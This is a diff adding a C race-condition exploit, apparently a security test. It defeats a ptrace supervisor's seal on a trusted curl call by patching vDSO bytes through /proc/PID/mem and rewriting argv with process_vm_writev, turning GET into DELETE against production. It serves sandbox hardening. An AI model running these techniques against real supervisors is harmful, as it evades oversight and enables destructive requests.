@@ -1,0 +1,231 @@
+/* A tool trusted with production (`curl -X GET URL`, its argv understood) is sealed at its exec
+ * stop: the supervisor, its tracer, runs prctl(PR_SET_DUMPABLE, 0) in it through the vDSO's
+ * `syscall` instruction (two single steps), and compares its committed argv. Until the seal,
+ * another process of the tree can still write the new image's memory. Two races in that seal:
+ *
+ *   seal-race MODE N CURL URL
+ *
+ *   gadget  between the check of the gadget's two bytes and the step that runs them, rewrite them
+ *           through /proc/PID/mem to `xor eax, eax` (2 bytes, leaves rax 0, as the prctl would):
+ *           a seal that takes that for the prctl leaves the tool dumpable. Then process_vm_writev
+ *           its method GET -> DELETE (refused by the kernel if the seal really ran).
+ *   argv    once the tracer resumes the tool for the seal's first step, process_vm_writev its
+ *           method GET -> DELETE: a compare made before the seal has already passed it.
+ *   memfd   open /proc/PID/mem at the exec stop (before any seal), wait until the tool is let go,
+ *           and write its method through that fd: the kernel checks a mem file's access at open,
+ *           not at each write, so a seal does not take it back (see KNOWN-GAPS.md).
+ *
+ * The window is widened legitimately, as any tree process may: a spinner pinned to CPU 0 and the
+ * tool (the attacker's own child) pinned there at nice 19, so each single step waits for the CPU
+ * while the attacker, pinned to CPU 1, watches /proc/PID/stat (state 't': a ptrace stop; 'R':
+ * resumed). The method is the last argument, followed by a padding environment string, so that
+ * "DELETE" fits over "GET". N tries; prints "tries N ran R refused F killed K wrote W": the exec
+ * ran (curl exited), failed (EPERM), or the child died of a signal (killed at its check); W: how
+ * many of the final writes the kernel accepted. Whether a DELETE reached production is for the
+ * server the test runs to say. Every syscall is checked; a failure exits 2. */
+#define _GNU_SOURCE
+#include <elf.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <sched.h>
+#include <signal.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/auxv.h>
+#include <sys/resource.h>
+#include <sys/uio.h>
+#include <sys/wait.h>
+#include <time.h>
+#include <unistd.h>
+
+#define DIE(what) do { fprintf(stderr, "seal-race: %s: %s\n", (what), strerror(errno)); exit(2); } while (0)
+
+static void pin(pid_t pid, int cpu)
+{
+    cpu_set_t set;
+    CPU_ZERO(&set);
+    CPU_SET(cpu, &set);
+    if (sched_setaffinity(pid, sizeof set, &set) < 0)
+        DIE("sched_setaffinity");
+}
+
+static double now(void)
+{
+    struct timespec t;
+    clock_gettime(CLOCK_MONOTONIC, &t);
+    return t.tv_sec + t.tv_nsec / 1e9;
+}
+
+/* Offset of the first `syscall` (0f 05) in our own vDSO: every 64-bit process maps the same image. */
+static long gadget_offset(void)
+{
+    const unsigned char *v = (const unsigned char *)getauxval(AT_SYSINFO_EHDR);
+    if (v == NULL)
+        return -1;
+    for (long i = 0; i + 1 < 2 * 4096; i++)
+        if (v[i] == 0x0f && v[i + 1] == 0x05)
+            return i;
+    return -1;
+}
+
+/* /proc/PID/stat of the child: its state, its minor faults (they grow once its own code runs:
+ * the tracer's reads of its memory are counted to the tracer) and, while its memory may be read,
+ * arg_start (0 once it is non-dumpable: the kernel hides the mm's fields then). 0 when it is gone. */
+static int stat_of(int fd, char *state, unsigned long *minflt, unsigned long *arg_start, int *is_curl)
+{
+    char buf[1024];
+    ssize_t n = pread(fd, buf, sizeof buf - 1, 0);
+    if (n <= 0)
+        return 0;
+    buf[n] = 0;
+    char *rp = strrchr(buf, ')');
+    if (rp == NULL || rp[1] != ' ')
+        return 0;
+    *is_curl = strstr(buf, "(curl)") != NULL;
+    *state = rp[2];
+    char *p = rp + 2;
+    for (int field = 3; field <= 48 && p != NULL; field++) {
+        if (field == 10)
+            *minflt = strtoul(p, NULL, 10);
+        if (field == 48)
+            *arg_start = strtoul(p, NULL, 10);
+        p = strchr(p, ' ');
+        if (p != NULL)
+            p++;
+    }
+    return *state != 'Z' && *state != 'X';
+}
+
+static void write_method(pid_t c, unsigned long at, int *wrote)
+{
+    struct iovec l = {.iov_base = (void *)"DELETE", .iov_len = 7};
+    struct iovec r = {.iov_base = (void *)at, .iov_len = 7};
+    if (process_vm_writev(c, &l, 1, &r, 1, 0) == 7)
+        (*wrote)++;
+}
+
+static int try_once(const char *mode, const char *curl, const char *url, long goff, int *wrote, int *missed)
+{
+    char *av[] = {(char *)curl, (char *)"-s", (char *)"-o", (char *)"/dev/null", (char *)url, (char *)"-X", (char *)"GET", NULL};
+    char *ev[] = {(char *)"PAD=xxxxxxxx", (char *)"PATH=/usr/bin:/bin", NULL};
+    /* Where "GET" lies in the committed argv: right after the strings before it. */
+    unsigned long method_off = 0;
+    for (int i = 0; i < 6; i++)
+        method_off += strlen(av[i]) + 1;
+
+    pid_t c = fork();
+    if (c < 0)
+        DIE("fork");
+    if (c == 0) {
+        pin(0, 0);
+        if (setpriority(PRIO_PROCESS, 0, 19) < 0)
+            DIE("setpriority");
+        execve(curl, av, ev);
+        _exit(errno == EPERM ? 100 : 101);
+    }
+    char path[64];
+    snprintf(path, sizeof path, "/proc/%d/stat", c);
+    int sfd = open(path, O_RDONLY | O_CLOEXEC);
+    if (sfd < 0)
+        DIE("open /proc/PID/stat");
+
+    char state = 0;
+    unsigned long arg_start = 0, flt = 0, flt0 = 0, a = 0;
+    int is_curl = 0, mem = -1;
+    unsigned long gadget = 0;
+    double deadline = now() + 2;
+    /* 1. The exec stop: committed (curl's name), stopped by its tracer; given up 20 ms after the
+     * commit (the tracer was quicker than this watch, and curl runs). */
+    double committed = 0;
+    while (stat_of(sfd, &state, &flt0, &arg_start, &is_curl) && !(is_curl && state == 't') && now() < deadline) {
+        if (is_curl && committed == 0)
+            committed = now();
+        if (committed != 0 && now() - committed > 0.02)
+            break;
+    }
+    if (!(is_curl && state == 't' && arg_start != 0)) {
+        (*missed)++; /* not seen stopped (the tracer was quicker than this watch): nothing tried */
+    } else {
+        if (strcmp(mode, "gadget") == 0 || strcmp(mode, "memfd") == 0) {
+            snprintf(path, sizeof path, "/proc/%d/mem", c);
+            mem = open(path, O_RDWR | O_CLOEXEC);
+        }
+        if (strcmp(mode, "gadget") == 0 && mem >= 0) {
+            unsigned long aux[64];
+            snprintf(path, sizeof path, "/proc/%d/auxv", c);
+            int afd = open(path, O_RDONLY | O_CLOEXEC);
+            ssize_t n = afd >= 0 ? read(afd, aux, sizeof aux) : -1;
+            if (afd >= 0)
+                close(afd);
+            for (ssize_t i = 0; i + 1 < n / 8 && aux[i] != AT_NULL; i += 2)
+                if (aux[i] == AT_SYSINFO_EHDR)
+                    gadget = aux[i + 1] + goff;
+        }
+        /* 2. The tracer resumes it for the seal's first step (the gadget's bytes and, before the
+         * fix, its argv already checked): it waits for CPU 0. */
+        while (stat_of(sfd, &state, &flt, &a, &is_curl) && state == 't' && now() < deadline) {
+        }
+        if (strcmp(mode, "argv") == 0) {
+            write_method(c, arg_start + method_off, wrote);
+        } else {
+            if (gadget != 0)
+                pwrite(mem, "\x31\xc0", 2, gadget); /* xor eax, eax */
+            /* 3. Let go, its own code running (the dynamic loader's page faults), before its main. */
+            while (stat_of(sfd, &state, &flt, &a, &is_curl) && flt == flt0 && now() < deadline) {
+            }
+            if (gadget != 0)
+                pwrite(mem, "\x0f\x05", 2, gadget); /* the vDSO as it was, for curl's own calls */
+            if (strcmp(mode, "memfd") == 0) {
+                if (mem >= 0 && pwrite(mem, "DELETE", 7, arg_start + method_off) == 7)
+                    (*wrote)++;
+            } else {
+                write_method(c, arg_start + method_off, wrote); /* refused by the kernel if the seal ran */
+            }
+        }
+    }
+    if (mem >= 0)
+        close(mem);
+    close(sfd);
+    /* The race is over: off the spinner's CPU, so that curl (at nice 19) finishes in its usual time.
+     * It may be gone already (ESRCH). */
+    cpu_set_t any;
+    CPU_ZERO(&any);
+    CPU_SET(1, &any);
+    sched_setaffinity(c, sizeof any, &any);
+    int st;
+    if (waitpid(c, &st, 0) < 0)
+        DIE("waitpid");
+    return WIFSIGNALED(st) ? 2 : WEXITSTATUS(st) == 100 ? 1 : 0;
+}
+
+int main(int argc, char **argv)
+{
+    if (argc != 5 || (strcmp(argv[1], "gadget") != 0 && strcmp(argv[1], "argv") != 0 && strcmp(argv[1], "memfd") != 0)) {
+        fprintf(stderr, "usage: seal-race gadget|argv|memfd N CURL URL\n");
+        return 2;
+    }
+    int n = atoi(argv[2]);
+    setvbuf(stdout, NULL, _IONBF, 0);
+    long goff = gadget_offset();
+    if (goff < 0) {
+        fprintf(stderr, "seal-race: no syscall instruction in the vDSO\n");
+        return 2;
+    }
+    pid_t spinner = fork();
+    if (spinner < 0)
+        DIE("fork");
+    if (spinner == 0) {
+        pin(0, 0);
+        for (;;) {
+        }
+    }
+    pin(0, 1);
+    int counts[3] = {0, 0, 0}, wrote = 0, missed = 0;
+    for (int i = 0; i < n; i++)
+        counts[try_once(argv[1], argv[3], argv[4], goff, &wrote, &missed)]++;
+    kill(spinner, SIGKILL);
+    waitpid(spinner, NULL, 0);
+    printf("tries %d ran %d refused %d killed %d wrote %d missed %d\n", n, counts[0], counts[1], counts[2], wrote, missed);
+    return 0;
+}
